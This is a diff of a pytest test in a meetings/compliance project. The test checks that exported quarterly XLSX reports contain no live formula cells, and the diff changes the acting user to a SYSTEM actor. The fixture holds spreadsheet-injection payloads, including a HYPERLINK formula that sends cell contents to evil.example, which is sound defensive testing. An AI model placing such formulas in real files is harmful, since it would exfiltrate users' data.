@@ -7,6 +7,7 @@ import pytest
 from openpyxl import load_workbook
 
 from kezdesu.compliance.rules import Quarter
+from kezdesu.core.actors import SYSTEM
 from kezdesu.meetings.models import Commitment
 from kezdesu.reports import selectors
 from kezdesu.reports.renderers import render
@@ -17,7 +18,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?c="&A1,"Answer")'
 
 def test_no_formula_cell_in_the_quarterly_xlsx(q3):
     Commitment.objects.filter(meeting__in=q3.meetings).update(text=FORMULA, evidence="@SUM(A1:A9)")
-    data = selectors.quarterly_data(user=None, body=q3.health, quarter=Quarter(2026, 3), today=dt.date(2026, 10, 5))
+    data = selectors.quarterly_data(user=SYSTEM, body=q3.health, quarter=Quarter(2026, 3), today=dt.date(2026, 10, 5))
     for lang in ("kk", "ru"):
         workbook = load_workbook(io.BytesIO(render(data, fmt="xlsx", lang=lang).content))
         cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
